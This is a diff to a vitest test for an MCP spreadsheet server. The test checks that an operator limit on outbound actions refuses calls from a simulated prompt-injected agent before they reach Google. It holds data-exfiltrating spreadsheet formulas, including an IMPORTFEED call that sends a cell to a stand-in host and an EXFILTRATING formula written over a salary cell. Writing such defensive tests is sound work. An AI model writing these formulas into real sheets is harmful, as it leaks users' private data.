@@ -1,7 +1,8 @@
 import { Client } from '@modelcontextprotocol/sdk/client/index.js';
 import { StreamableHTTPClientTransport } from '@modelcontextprotocol/sdk/client/streamableHttp.js';
+import { readJson } from '@sheetgate/test-harness';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
-import { type McpUnderTest, startMcpUnderTest } from './support/stack.ts';
+import { type McpUnderTest, postMcp, startMcpUnderTest } from './support/stack.ts';
 
 // The operator's ceiling on outbound actions (issue 37 item 3) through the MCP SDK client, real
 // mcp and auth processes and the Google emulator: one mcp with every setting set (sharing only to
@@ -22,6 +23,7 @@ let open: Awaited<ReturnType<McpUnderTest['startMcp']>>;
 let held: Client;
 let unheld: Client;
 let book: string;
+let aliceId: string;
 
 // biome-ignore lint/suspicious/noExplicitAny: results are checked by toEqual, not by the compiler
 type Structured = Record<string, any>;
@@ -78,9 +80,9 @@ async function connect(mcpUrl: string, userId: string): Promise<Client> {
 beforeAll(async () => {
   stack = await startMcpUnderTest(CEILING);
   open = await stack.startMcp();
-  const alice = (await stack.signIn('alice@example.com')).userId;
-  held = await stack.connectClient(alice, 'held');
-  unheld = await connect(open.mcpUrl, alice);
+  aliceId = (await stack.signIn('alice@example.com')).userId;
+  held = await stack.connectClient(aliceId, 'held');
+  unheld = await connect(open.mcpUrl, aliceId);
   book = (await call(unheld, 'create_spreadsheet', { title: 'Salaries', values: [['Ann', '91000']] }))
     .structured.spreadsheetId;
 }, 120_000);
@@ -201,6 +203,52 @@ describe('under a ceiling, the injected agent is refused before Google', () => {
       spreadsheetId: book,
       formulas: ['=IMPORTFEED("https://x.test/"&A1)'],
     });
+  });
+
+  it('a destructive call is refused before the person is asked to confirm it (a 2026-07-28 client that can elicit)', async () => {
+    const before = await stats();
+    const response = await postMcp(
+      stack.mcpUrl,
+      {
+        jsonrpc: '2.0',
+        id: 1,
+        method: 'tools/call',
+        params: {
+          // It replaces A1 ("Ann"): batch_update asks first, naming the loss, unless refused before.
+          name: 'batch_update',
+          arguments: {
+            spreadsheetId: book,
+            requests: [
+              {
+                updateCells: {
+                  start: { sheetId: 0, rowIndex: 0, columnIndex: 0 },
+                  fields: 'userEnteredValue',
+                  rows: [{ values: [{ userEnteredValue: { formulaValue: EXFILTRATING } }] }],
+                },
+              },
+            ],
+          },
+          _meta: {
+            'io.modelcontextprotocol/protocolVersion': '2026-07-28',
+            'io.modelcontextprotocol/clientCapabilities': { elicitation: { form: {} } },
+            'io.modelcontextprotocol/clientInfo': { name: 'outbound-test', version: '1.0.0' },
+          },
+        },
+      },
+      {
+        headers: {
+          authorization: `Bearer ${await stack.sign({ sub: aliceId })}`,
+          'mcp-protocol-version': '2026-07-28',
+          'mcp-method': 'tools/call',
+          'mcp-name': 'batch_update',
+        },
+      },
+    );
+    const { result } = (await readJson(response)) as { result: Structured };
+    expect(result.resultType).toBe('complete');
+    expect(result.isError).toBe(true);
+    expect(result.content[0].text).toContain('OUTBOUND_FETCH_FORMULAS=deny');
+    expect(calledSince(before, await stats())).toEqual({});
   });
 
   it('the same text written RAW is text, not a formula: written', async () => {
